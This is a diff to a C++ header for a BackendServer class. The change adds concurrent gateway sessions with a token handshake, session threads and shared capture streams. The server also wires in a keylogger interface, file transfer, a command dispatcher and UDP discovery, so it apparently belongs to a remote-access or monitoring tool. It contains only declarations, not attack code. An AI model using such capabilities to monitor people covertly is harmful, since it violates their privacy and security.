@@ -5,6 +5,7 @@
 #include <vector>
 #include <unordered_map>
 #include <mutex>
+#include <list>
 #include "core/BroadcastBus.hpp"
 #include "core/StreamSession.hpp"
 #include "interfaces/IKeylogger.hpp"
@@ -18,6 +19,22 @@
 
 namespace core {
 
+    namespace network { class Reactor; class TrafficShaper; }
+
+    // ============================================================================
+    // BackendServer - Accepts gateway sessions on the control/data port pair
+    // ============================================================================
+    // Every gateway session (control + data socket) runs on its own thread
+    // with its own reactor, queues and writer; all sessions share the capture
+    // StreamSessions/BroadcastBuses, so one capture feeds every gateway.
+    //
+    // Pairing: each socket's first frame is a handshake
+    //   [12B header, cid = bid = 0]["HELLO <token>"]
+    // and the control and data sockets carrying the same token form a
+    // session. Sockets that send no handshake within HANDSHAKE_GRACE_MS
+    // (older gateways) are paired in accept order.
+    // ============================================================================
+
     class BackendServer {
     public:
         BackendServer(
@@ -33,21 +50,46 @@ namespace core {
         );
         ~BackendServer();
 
-        // Blocking call (runs the connection loop)
+        // Blocking call (runs the accept/pairing loop until stop())
         void run();
 
         // Signals stop
         void stop();
 
     private:
-        void handle_connection(socket_t fd_control, socket_t fd_data);
+        // Session body; runs `reactor` until the gateway disconnects or stop()
+        void handle_connection(socket_t fd_control, socket_t fd_data, uint32_t session_id,
+                               std::shared_ptr<network::Reactor> reactor,
+                               std::vector<uint8_t> initial_input);
         void broadcast_discovery(); // UDP Discovery broadcaster
 
+        // Start a session thread for a paired control/data socket
+        void start_session(socket_t fd_control, socket_t fd_data, std::vector<uint8_t> initial_input);
+        // Join session threads that have finished (all of them if `all`)
+        void reap_sessions(bool all);
+
+        // Shared capture: subscribe a viewer and make sure the capture runs.
+        // detach_viewer stops the capture when its bus has no viewers left.
+        common::Result<common::Ok> attach_viewer(BroadcastBus& bus, StreamSession& session,
+                                                 SubscriberId id, PacketCallback send_fn);
+        void detach_viewer(BroadcastBus& bus, StreamSession& session, SubscriberId id);
+        void detach_session(uint32_t session_id);
+
         // Protocol Helpers
         // Legacy helpers removed
 
     private:
         static constexpr int DATA_PORT_OFFSET = 1; // Data port = Control port + 1
+        static constexpr size_t MAX_GATEWAY_SESSIONS = 8;
+        static constexpr int HANDSHAKE_GRACE_MS = 500;   // Then an unannounced socket is legacy
+        static constexpr int PAIRING_TIMEOUT_MS = 5000;  // Unpaired sockets are closed after this
+
+        struct GatewaySession {
+            uint32_t id = 0;
+            std::thread thread;
+            std::shared_ptr<network::Reactor> reactor;
+            std::shared_ptr<std::atomic<bool>> done;
+        };
 
         uint16_t gateway_port_;         // Control port to listen on
         socket_t listen_fd_{INVALID_SOCKET};       // Control channel
@@ -64,6 +106,14 @@ namespace core {
         std::shared_ptr<interfaces::IFileTransfer> file_transfer_;
         std::unique_ptr<command::CommandDispatcher> dispatcher_;
         std::unique_ptr<ThreadPool> command_pool_; // Async command execution
+        std::shared_ptr<network::TrafficShaper> shaper_; // Bandwidth limits across all sessions
+
+        std::mutex sessions_mutex_; // Protects sessions_, accept_reactor_
+        std::list<GatewaySession> sessions_;
+        std::shared_ptr<network::Reactor> accept_reactor_;
+        uint32_t next_session_id_ = 1;
+
+        std::mutex capture_mutex_; // Serializes viewer attach/detach against capture start/stop
     };
 
 } // namespace core